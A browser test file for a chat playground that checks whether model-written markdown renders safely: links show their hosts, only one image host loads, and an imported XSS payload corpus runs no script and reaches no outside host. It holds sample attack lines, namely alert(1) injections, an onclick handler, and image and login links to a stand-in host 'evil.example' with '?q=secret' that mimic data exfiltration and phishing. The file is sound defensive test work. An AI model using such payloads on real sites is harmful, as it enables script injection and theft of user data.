import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { play, startNode, type TestServer } from "../support/servers.ts";
import { inChromium } from "./support/chromium.ts";
import { findForbidden } from "./support/forbidden.ts";
import { streamOf } from "./support/reply-stream.ts";
import { expectNothing, openWatched, type WatchedChat } from "./support/watched-chat.ts";
import { CORPUS } from "./xss-corpus/corpus.ts";
import { STRANGER } from "./xss-corpus/payload.ts";

const ANSWER = `# Title

Some **words**, and **重点。**其余. See [the bank](${STRANGER}/login).

| a | b |
|---|---|
| 1 | 2 |

\`\`\`js
if (a < b) {
\tc();
}
\`\`\`

![a cat](https://v3.fal.media/files/cat.png) ![a dog](${STRANGER}/?q=secret)`;

/** One pixel. */
const PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
);

let gateway: TestServer;
beforeAll(async () => {
  gateway = await startNode();
}, 60_000);
afterAll(() => gateway.stop());

/** Without a pointer that has to find its way: there are hundreds of these. */
async function startAnew({ page }: WatchedChat): Promise<void> {
  await page.getByRole("button", { name: "New chat" }).dispatchEvent("click");
}

inChromium("what a model writes", (open) => {
  test("would be seen if it did anything", async () => {
    const { page, watch, foreign } = await openWatched(open, { view: "playground", gateway });
    await page.evaluate((host) => {
      alert(1);
      document.body.append(Object.assign(new Image(), { src: `${host}/?q=secret` }));
    }, STRANGER);
    await expect(
      page.evaluate(() => document.body.setAttribute("onclick", "alert(1)")),
    ).rejects.toThrow("TrustedScript");
    await expect
      .poll(() => watch.seen)
      .toEqual([
        "alert was called",
        `violates img-src: ${STRANGER}/?q=secret `,
        expect.stringMatching(/^violates require-trusted-types-for: /),
      ]);
    expect(foreign).toEqual([`${STRANGER}/?q=secret`]);
  });

  test("is drawn with its links' hosts in sight, code to copy, and fal's pictures alone (SEC-70)", async () => {
    const chat = await openWatched(open, { view: "playground", gateway });
    const { page, reply, watch, foreign } = chat;
    await page.context().route("https://v3.fal.media/**", (route) => {
      return route.fulfill({ contentType: "image/png", body: PNG });
    });
    await play(gateway, streamOf(ANSWER));
    await chat.ask("Say it");
    const answer = reply.locator(".markdown").last();
    expect(await answer.locator("h3").innerText()).toBe("Title");
    expect(await answer.locator("strong").allInnerTexts()).toEqual(["words", "重点。"]);
    const link = answer.getByRole("link", { name: "the bank evil.example" });
    expect(await link.getAttribute("href")).toBe(`${STRANGER}/login`);
    expect(await link.getAttribute("rel")).toBe("noopener noreferrer");
    expect(await link.getAttribute("target")).toBe("_blank");
    expect(await answer.getByRole("cell").allInnerTexts()).toEqual(["1", "2"]);
    const picture = answer.getByRole("img", { name: "a cat" });
    await expect
      .poll(() => picture.evaluate((image) => (image as HTMLImageElement).naturalWidth))
      .toBe(1);
    const stranger = answer.getByRole("link", { name: "a dog (not loaded) evil.example" });
    expect(await stranger.getAttribute("href")).toBe(`${STRANGER}/?q=secret`);
    await answer.getByRole("button", { name: "Copy", exact: true }).click();
    const copied = () => page.evaluate(() => navigator.clipboard.readText());
    await expect.poll(copied).toBe("if (a < b) {\n\tc();\n}");
    expect(await findForbidden(page)).toEqual([]);
    expect({ seen: watch.seen, foreign: [...new Set(foreign)] }).toEqual({
      seen: [],
      foreign: ["https://v3.fal.media/files/cat.png"],
    });
  });

  describe.each(CORPUS)("%s", (_, payloads) => {
    let chat: WatchedChat;
    beforeAll(async () => {
      chat = await openWatched(open, { view: "playground", gateway });
    }, 60_000);

    test.each(payloads)(
      "runs nothing and asks nobody (SEC-70) (SEC-73): %s",
      async (_name, text) => {
        await play(gateway, streamOf(text));
        await chat.ask("Say it");
        await expectNothing(chat);
        await startAnew(chat);
      },
    );

    test("is drawn anew from what was kept, and leaves the page as it was (SEC-73)", async () => {
      await play(gateway, streamOf("All **is** well."));
      await chat.ask("Are you there?");
      await chat.page.reload();
      expect(await chat.reply.locator(".markdown").last().innerText()).toBe("All is well.");
      expect(await chat.page.title()).toMatch(/^Playground/);
      await expectNothing(chat);
    });
  });
});
